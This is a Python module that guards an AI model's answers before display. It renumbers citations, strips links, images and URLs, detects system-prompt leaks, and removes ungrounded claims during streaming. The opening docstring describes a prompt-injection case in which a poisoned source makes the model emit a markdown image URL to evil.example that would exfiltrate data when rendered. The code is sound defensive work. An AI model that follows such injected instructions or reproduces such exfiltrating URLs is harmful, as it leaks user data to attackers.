"""Checking the model's text before anyone sees it.

- Citation markers: [n] (also 【n】, [n, m], [^n]) naming a real source are
  renumbered by first appearance, so the answer's [1], [2]… match the
  citations list, which holds only the sources actually cited; a marker naming
  no source is removed and counted.
- Links and images: a poisoned clause can ask the model to emit
  `![](https://evil.example/?q=…)`; a page rendering that would fetch the URL.
  Markdown images, links, reference definitions, HTML tags and bare URLs are
  removed (a link keeps its text), except a URL quoted verbatim in the sources.
- Prompt leaks: text that reproduces a long run of the instructions (the system
  prompt) is detected, so the answerer can refuse instead.
- Claims (with a `ClaimGrounder`): a sentence stating a fact that is not in the
  sources it cites, or citing nothing, is removed (app/answer/claim_grounding.py);
  the markers of what remains are renumbered again.

While streaming, only a prefix that later text cannot change is shown: an
unfinished link, tag, marker or URL, trailing whitespace, and the last few
characters (where a leak could be starting) are held back; with grounding, the
last sentence too (it is checked once it is complete). The text is re-checked
only when a sentence may have ended, which keeps the guard's cost per answer low.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from app.answer.claim_grounding import ClaimGrounder, split_sentences
from app.answer.thinking_filter import ThinkingFilter

LEAK_WINDOW = 20  # letters/digits/CJK characters in a row shared with the instructions
_URL_CHARS = r"[^\s<>\"'`，。；！？、）)\]】」』]"

_HTML_TAG = re.compile(r"<[A-Za-z!/][^<>\n]*>")
_IMAGE = re.compile(r"!\[[^\]\n]*\]\([^)\n]*\)")
_LINK = re.compile(r"\[([^\[\]\n]*)\]\(([^)\n]*)\)")
_REFERENCE_DEFINITION = re.compile(r"^[ \t]*\[[^\]\n]+\]:[ \t]*\S.*$", re.MULTILINE)
_URL = re.compile(
    rf"(?:(?:https?|ftp|file|data|javascript):|www\.){_URL_CHARS}*"
    rf"|(?<![A-Za-z0-9@.\-])(?:[A-Za-z0-9-]+\.)+[A-Za-z]{{2,}}(?::\d+)?/{_URL_CHARS}*",
    re.IGNORECASE,
)
_MARKER = re.compile(r"([ \t]*)[\[【]\^?\s*(\d{1,2}(?:\s*[,，、]\s*\d{1,2})*)\s*[\]】]")
_BLANK_LINES = re.compile(r"\n[ \t]*\n(?:[ \t]*\n)+")
_SPACE_RUNS = re.compile(r"(?<=\S)[ \t]{2,}(?=\S)")
_SPACE_BEFORE_PUNCTUATION = re.compile(r"[ \t]+(?=[，。；：！？、）])")  # left where a link or URL was removed
_SENTENCE_END = re.compile(r"[。！？!?\n]|\.(?=\s)")
_MARKER_TEXT = re.compile(r"\^?\s*\d{1,2}(?:\s*[,，、]\s*\d{1,2})*\s*")

# Constructs that later text could still complete, at the end of the text so far.
_OPEN_TAIL = re.compile(
    r"(?:!?\[[^\[\]\n]*\](?:\([^)\n]*)?"  # [text]  [text](ur…   ![alt](…
    r"|!?\[[^\]\n]*"  # [tex…
    r"|【[^】\n]*"  # 【1…
    r"|<[^<>\n]*"  # <img src=…
    r"|!"  # the start of ![
    r"|[!-~]+"  # a run of ASCII that may be growing into a URL
    r")$"
)
_UNFINISHED_AT_END = re.compile(r"(?:!?\[[^\[\]\n]*\]\([^)\n]*|<[A-Za-z!/][^<>\n]*)$")


@dataclass
class GuardedText:
    text: str
    cited: list[int] = field(default_factory=list)  # source numbers, in the order of the new refs 1, 2, …
    dropped_markers: int = 0  # markers naming no source
    removed_links: int = 0
    removed_claims: list[tuple[str, str]] = field(default_factory=list)  # (sentence, what its sources lack)
    claims: int = 0  # sentences stating a fact that were kept


def normalized(text: str) -> str:
    """Letters, digits and CJK only, lower-cased: what a leak check compares."""
    return "".join(ch.lower() for ch in text if ch.isalnum())


class AnswerGuard:
    def __init__(
        self, source_count: int, instructions: list[str], allowed_urls: set[str] | None = None, grounder: ClaimGrounder | None = None
    ) -> None:
        """`instructions`: texts the model must not reveal (the system prompt, the fixed parts of the answer prompt);
        `grounder`: checks each sentence against the sources it cites (None: markers and markup only)."""
        self.source_count = source_count
        self.allowed_urls = allowed_urls or set()
        self.grounder = grounder
        self._secret_windows = set()
        for text in instructions:
            flat = normalized(text)
            self._secret_windows.update(flat[i : i + LEAK_WINDOW] for i in range(len(flat) - LEAK_WINDOW + 1))

    # -- leaks ------------------------------------------------------------------
    def leaks(self, text: str) -> bool:
        return self.leaks_from(normalized(text), 0)

    def leaks_from(self, flat: str, start: int) -> bool:
        """Does a window of the normalized text `flat` beginning at `start` or later repeat the instructions?"""
        return any(flat[i : i + LEAK_WINDOW] in self._secret_windows for i in range(start, len(flat) - LEAK_WINDOW + 1))

    # -- cleaning ---------------------------------------------------------------
    def clean(self, raw: str, final: bool = False) -> GuardedText:
        """The text with links/images removed and markers validated and renumbered (a pure function of `raw`)."""
        result = GuardedText("")
        text = _UNFINISHED_AT_END.sub("", raw) if final else raw

        def drop(match: re.Match) -> str:
            if match.group(0) in self.allowed_urls:
                return match.group(0)
            result.removed_links += 1
            return ""

        def link_text(match: re.Match) -> str:
            label, target = match.group(1), match.group(2).strip()
            if target in self.allowed_urls:
                return f"{label}（{target}）"
            result.removed_links += 1
            return f"[{label}]" if _MARKER_TEXT.fullmatch(label) else label

        text = _HTML_TAG.sub(drop, text)
        text = _IMAGE.sub(drop, text)
        text = _LINK.sub(link_text, text)
        text = _REFERENCE_DEFINITION.sub(drop, text)
        text = _URL.sub(lambda m: self._drop_url(m, result), text)
        text = _MARKER.sub(lambda m: self._renumber(m, result), text)
        text = _SPACE_RUNS.sub(" ", _BLANK_LINES.sub("\n\n", text))
        text = _SPACE_BEFORE_PUNCTUATION.sub("", text).lstrip()
        result.text = text.rstrip() if final else text
        if self.grounder is not None:
            self._ground(result, final)
        return result

    def _ground(self, result: GuardedText, final: bool) -> None:
        """Remove the sentences whose facts are not in their sources; renumber what remains.
        While streaming, the last sentence may still grow (or get its marker): it is held back."""
        assert self.grounder is not None
        text = result.text
        if not final:
            sentences = split_sentences(text)
            text = "".join(s.text for s in sentences[:-1]).rstrip()
        grounding = self.grounder.ground(text, result.cited)
        renumbered = GuardedText("")
        old_cited = result.cited
        text = _MARKER.sub(lambda m: self._renumber(m, renumbered), grounding.text)
        result.text = _SPACE_RUNS.sub(" ", _BLANK_LINES.sub("\n\n", text)).strip()
        result.cited = [old_cited[ref - 1] for ref in renumbered.cited]
        result.removed_claims = grounding.removed
        result.claims = grounding.kept_claims

    def _drop_url(self, match: re.Match, result: GuardedText) -> str:
        url = match.group(0).rstrip(".,;:!?")
        if url in self.allowed_urls:
            return match.group(0)
        result.removed_links += 1
        return match.group(0)[len(url) :]

    def _renumber(self, match: re.Match, result: GuardedText) -> str:
        space, numbers = match.group(1), [int(n) for n in re.findall(r"\d+", match.group(2))]
        markers = []
        for number in numbers:
            if not 1 <= number <= self.source_count:
                result.dropped_markers += 1
                continue
            if number not in result.cited:
                result.cited.append(number)
            marker = f"[{result.cited.index(number) + 1}]"
            if marker not in markers:
                markers.append(marker)
        return space + "".join(markers) if markers else ""

    # -- streaming --------------------------------------------------------------
    def stable_length(self, raw: str) -> int:
        """Length of the prefix of `raw` whose cleaned form later text cannot change."""
        cut = len(raw)
        counted = 0
        for i in range(len(raw) - 1, -1, -1):  # hold back the last LEAK_WINDOW significant characters
            if raw[i].isalnum():
                counted += 1
                if counted == LEAK_WINDOW:
                    cut = i
                    break
        else:
            return 0
        tail = _OPEN_TAIL.search(raw)
        if tail:
            cut = min(cut, tail.start())
        for pattern in (_HTML_TAG, _IMAGE, _LINK, _URL, _MARKER, _REFERENCE_DEFINITION):
            for match in pattern.finditer(raw):
                if match.start() < cut < match.end():
                    cut = match.start()
        while cut > 0 and raw[cut - 1].isspace():
            cut -= 1
        return cut


class GuardedStream:
    """Feeds model deltas through the guard; yields only text that is safe and final.

    Nothing is shown before the first valid citation marker, so an answer that
    turns out to cite nothing can still be replaced by the extractive answer
    without the user having seen it.
    """

    def __init__(self, guard: AnswerGuard) -> None:
        self.guard = guard
        self.raw = ""  # the model's text so far, reasoning (<think>) left out
        self.shown = ""
        self.leaked = False
        self._thinking = ThinkingFilter()
        self._flat = ""  # normalized(raw), grown delta by delta
        self._stable = 0
        self._checked = 0  # raw[:_checked] was cleaned already; a new sentence end after it calls for cleaning again

    def feed(self, delta: str) -> str:
        delta = self._thinking.feed(delta)
        if not delta:
            return ""
        self.raw += delta
        checked = max(0, len(self._flat) - LEAK_WINDOW + 1)  # windows before this were checked already
        self._flat += normalized(delta)
        if self.guard.leaks_from(self._flat, checked):
            self.leaked = True
            return ""
        if not self._sentence_ended():
            return ""  # what may be shown changes only when a sentence has ended (and the leak window passed it)
        stable = self.guard.stable_length(self.raw)
        if stable == self._stable:
            return ""
        self._stable = stable
        if not _SENTENCE_END.search(self.raw, max(0, self._checked - 1), stable):
            return ""
        self._checked = stable
        cleaned = self.guard.clean(self.raw[:stable])
        if not cleaned.cited or not cleaned.text.startswith(self.shown):
            return ""
        new, self.shown = cleaned.text[len(self.shown) :], cleaned.text
        return new

    def _sentence_ended(self) -> bool:
        """Has a sentence ended after the last check, followed by a full leak window (the part held back)?"""
        end = _SENTENCE_END.search(self.raw, max(0, self._checked - 1))
        if end is None:
            return False
        return sum(ch.isalnum() for ch in self.raw[end.end() :]) >= LEAK_WINDOW

    def result(self) -> GuardedText:
        self.raw += self._thinking.finish()
        return self.guard.clean(self.raw, final=True)
